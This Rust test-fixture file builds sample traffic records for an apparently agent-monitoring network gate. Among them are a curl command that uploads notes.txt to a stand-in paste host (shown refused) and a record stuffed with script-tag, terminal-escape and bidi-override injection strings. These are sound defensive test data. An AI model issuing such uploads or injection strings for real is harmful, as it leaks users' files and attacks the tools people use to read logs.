//! Records as the gate would write them.

use agentgate::model::{
    Action, Ancestor, Authority, Captured, Failure, Flag, Flow, HeaderFields, Host, Kind,
    OriginalDestination, Question, Record, RequestHead, ResponseHead, SessionId, Severity, State, Subject,
    Timestamp, Verdict,
};

/// The agent that most records come from.
pub(crate) fn claude() -> Subject {
    Subject {
        session: SessionId("claude-3f2a.scope@48213".into()),
        pid: 24_117,
        uid: 1000,
        start: Some(918_273),
        comm: "claude".into(),
        exe: Some("/usr/local/lib/node_modules/@anthropic-ai/claude-code/bin/claude".into()),
        cmdline: ["claude", "--print", "summarise the open pull requests"].map(String::from).to_vec(),
        ancestors: vec![
            Ancestor { pid: 24_101, exe: "/usr/bin/bash".into() },
            Ancestor { pid: 23_990, exe: "/usr/bin/agentctl".into() },
            Ancestor { pid: 1, exe: "/usr/lib/systemd/systemd".into() },
        ],
        cgroup: "/agent.slice/claude-3f2a.scope".into(),
        privileges: Vec::new(),
    }
}

/// A tool the agent started.
pub(crate) fn curl() -> Subject {
    Subject {
        pid: 24_188,
        comm: "curl".into(),
        exe: Some("/usr/bin/curl".into()),
        cmdline: ["curl", "-sS", "-d", "@notes.txt", "https://paste.example/api/new?title=it's here"]
            .map(String::from)
            .to_vec(),
        ancestors: vec![
            Ancestor { pid: 24_180, exe: "/usr/bin/bash".into() },
            Ancestor {
                pid: 24_117,
                exe: "/usr/local/lib/node_modules/@anthropic-ai/claude-code/bin/claude".into(),
            },
        ],
        ..claude()
    }
}

pub(crate) fn authority(host: &str, port: u16) -> Authority {
    Authority { host: Host::parse(host).unwrap(), port }
}

pub(crate) fn verdict(action: Action, rule: &str, reason: &str) -> Verdict {
    Verdict { action, rule: rule.into(), reason: reason.into() }
}

/// A connection of `subject` to `host`:443.
pub(crate) fn flow(at: Timestamp, subject: &Subject, host: &str, original: &str) -> Record {
    Record {
        subject: Some(subject.clone().into()),
        flow: Some(
            Flow {
                cookie: 0x5a17_0000 + at.0.unsigned_abs() % 9973,
                original: OriginalDestination(original.parse().unwrap()),
                pid: subject.pid,
                uid: subject.uid,
                gid: subject.uid,
                comm: subject.comm.clone(),
                cgroup: 48_213,
                session: 0,
                netns: 0,
                connected_ns: 1,
            }
            .into(),
        ),
        authority: Some(authority(host, 443)),
        protocol: "tls".into(),
        state: State::Done,
        finished: Some(Timestamp(at.0 + 4_812_000)),
        bytes_up: 6_412,
        bytes_down: 48_219,
        ..Record::new(Kind::Flow, at)
    }
}

fn body(text: &str) -> Captured {
    Captured { total: text.len() as u64, truncated: false, bytes: text.as_bytes().to_vec().into() }
}

pub(crate) fn headers(rows: &[(&str, &str)]) -> HeaderFields {
    rows.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect()
}

/// A request over `flow` that was allowed and answered.
pub(crate) fn exchange(flow: &Record, parent: u64, method: &str, target: &str, status: u16) -> Record {
    Record {
        kind: Kind::Exchange,
        parent: Some(agentgate::model::RecordId(parent)),
        started: Timestamp(flow.started.0 + 21_000),
        finished: Some(Timestamp(flow.started.0 + 843_000)),
        protocol: "http/2".into(),
        verdict: Some(verdict(
            Action::Allow,
            "allow:api.anthropic.com",
            "api.anthropic.com is on the allow list.",
        )),
        request: Some(RequestHead {
            method: method.into(),
            scheme: "https".into(),
            target: target.into(),
            version: "HTTP/2.0".into(),
            headers: headers(&[("accept", "*/*"), ("user-agent", "claude-cli/3.1.4 (external, cli)")]),
            body: Captured::default(),
        }),
        response: Some(ResponseHead {
            status,
            version: "HTTP/2.0".into(),
            headers: headers(&[
                ("content-type", "application/json"),
                ("date", "Fri, 20 Nov 2026 08:00:00 GMT"),
            ]),
            body: body(r#"{"ok":true}"#),
            first_byte_us: 312_400,
        }),
        bytes_up: 0,
        bytes_down: 0,
        ..flow.clone()
    }
}

/// An allowed call of a model with a masked key, JSON up and a stream of events down.
pub(crate) fn messages(flow: &Record, parent: u64) -> Record {
    let mut record = exchange(flow, parent, "POST", "/v1/messages?beta=true", 200);
    let request = record.request.as_mut().unwrap();
    request.headers = headers(&[
        ("accept", "application/json"),
        ("anthropic-version", "2023-06-01"),
        ("authorization", "Bearer ****7QAA"),
        ("content-type", "application/json"),
        ("user-agent", "claude-cli/3.1.4 (external, cli)"),
    ]);
    request.body = body(
        r#"{"model":"claude-opus-5","max_tokens":4096,"stream":true,"system":[{"type":"text","text":"You are a careful assistant.","cache_control":{"type":"ephemeral"}}],"messages":[{"role":"user","content":"Summarise the open pull requests, please."}],"tools":[{"name":"bash","description":"Run a command","input_schema":{"type":"object","properties":{"command":{"type":"string"}},"required":["command"]}}]}"#,
    );
    let response = record.response.as_mut().unwrap();
    response.headers = headers(&[
        ("content-type", "text/event-stream; charset=utf-8"),
        ("request-id", "req_011CQz4Nn8"),
        ("set-cookie", "****"),
    ]);
    response.body = body(
        "event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"id\":\"msg_01\",\"role\":\"assistant\"}}\n\nevent: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"text_delta\",\"text\":\"There are three open pull requests.\"}}\n\nevent: message_stop\ndata: {\"type\":\"message_stop\"}\n\n",
    );
    record
}

/// A refused upload.
pub(crate) fn refused(at: Timestamp) -> Record {
    let flow = flow(at, &curl(), "paste.example", "203.0.113.77:443");
    let mut record = exchange(&flow, 0, "POST", "/api/new?title=it%27s%20here", 403);
    record.parent = None;
    record.state = State::Refused;
    record.response = None;
    record.verdict =
        Some(verdict(Action::Deny, "mode:enforce", "paste.example is on no list, and the mode is enforce."));
    record.flags = vec![Flag::new(
        "host_not_allowlisted",
        Severity::Medium,
        "paste.example:443 is not on the allow list",
    )];
    record.request.as_mut().unwrap().body = body("my notes\nwith two lines\n");
    record
}

/// Hostile text wherever an agent or an origin can put it.
pub(crate) fn hostile(at: Timestamp) -> Record {
    const SCRIPT: &str = "<script>alert(1)</script>\"'\u{1b}[2J\u{202e}\r\n";
    let flow = flow(at, &claude(), "evil.example", "203.0.113.66:443");
    let mut record = exchange(&flow, 0, "GET", &format!("/{SCRIPT}"), 200);
    record.parent = None;
    record.protocol = SCRIPT.into();
    let subject = std::sync::Arc::make_mut(record.subject.as_mut().unwrap());
    subject.exe = Some(format!("/tmp/{SCRIPT}"));
    subject.comm = SCRIPT.into();
    subject.cmdline = vec![SCRIPT.into()];
    subject.cgroup = SCRIPT.into();
    subject.session = SessionId(format!("{SCRIPT}@1"));
    subject.ancestors = vec![Ancestor { pid: 2, exe: SCRIPT.into() }];
    std::sync::Arc::make_mut(record.flow.as_mut().unwrap()).comm = SCRIPT.into();
    record.verdict = Some(verdict(Action::Allow, SCRIPT, SCRIPT));
    record.flags = vec![Flag::new(SCRIPT, Severity::High, SCRIPT)];
    let request = record.request.as_mut().unwrap();
    request.method = SCRIPT.into();
    request.scheme = SCRIPT.into();
    request.headers = headers(&[(SCRIPT, SCRIPT)]);
    request.body = body(SCRIPT);
    let response = record.response.as_mut().unwrap();
    response.version = SCRIPT.into();
    response.headers = headers(&[("content-type", SCRIPT), (SCRIPT, SCRIPT)]);
    response.body = body(SCRIPT);
    record.failure = Some(Failure { blame: SCRIPT.into(), code: SCRIPT.into(), detail: SCRIPT.into() });
    record
}

/// A question to the gate's DNS server, and four more like it.
pub(crate) fn question(at: Timestamp) -> Record {
    Record {
        kind: Kind::Dns,
        authority: None,
        protocol: "dns".into(),
        verdict: Some(verdict(Action::Allow, "allow:*.github.com", "the allow list has *.github.com")),
        question: Some(Question {
            name: "codeload.github.com".into(),
            kind: "AAAA".into(),
            transport: "udp".into(),
            code: "NOERROR".into(),
            addresses: vec!["2001:db8::10".parse().unwrap(), "2001:db8::11".parse().unwrap()],
            answers: vec!["left out fd00::1: fd00::1 is a private address".into()],
            took_us: 12_400,
        }),
        times: 5,
        bytes_up: 0,
        bytes_down: 0,
        ..flow(at, &claude(), "codeload.github.com", "198.51.100.53:53")
    }
}

/// A question whose name has hostile text, refused.
pub(crate) fn hostile_question(at: Timestamp) -> Record {
    let mut record = question(at);
    record.state = State::Refused;
    record.times = 1;
    record.verdict = Some(verdict(Action::Deny, "mode:enforce", "it is on no list"));
    record.question = Some(Question {
        name: "<script>alert(1)</script>\u{202e}.evil.example".into(),
        kind: "TXT".into(),
        transport: "tcp".into(),
        code: "NXDOMAIN".into(),
        answers: vec!["<script>alert(2)</script>".into()],
        ..Question::default()
    });
    record
}

/// What the kernel refused.
pub(crate) fn kernel(at: Timestamp) -> Record {
    Record {
        state: State::Refused,
        finished: Some(at),
        subject: Some(claude().into()),
        protocol: "udp".into(),
        note: Some("UDP to 8.8.8.8:443 refused: only DNS to the gate's resolver may use UDP".into()),
        ..Record::new(Kind::Kernel, at)
    }
}

/// An exchange that failed at the origin.
pub(crate) fn failed(at: Timestamp) -> Record {
    let flow = flow(at, &claude(), "registry.npmjs.org", "104.16.24.34:443");
    let mut record = exchange(&flow, 0, "GET", "/@types%2fnode", 502);
    record.parent = None;
    record.state = State::Failed;
    record.response = None;
    record.failure = Some(Failure {
        blame: "origin".into(),
        code: "origin_certificate_invalid".into(),
        detail: "the certificate of registry.npmjs.org expired on 2026-11-18".into(),
    });
    record.flags = vec![Flag::new("origin_certificate_invalid", Severity::High, "expired on 2026-11-18")];
    record
}
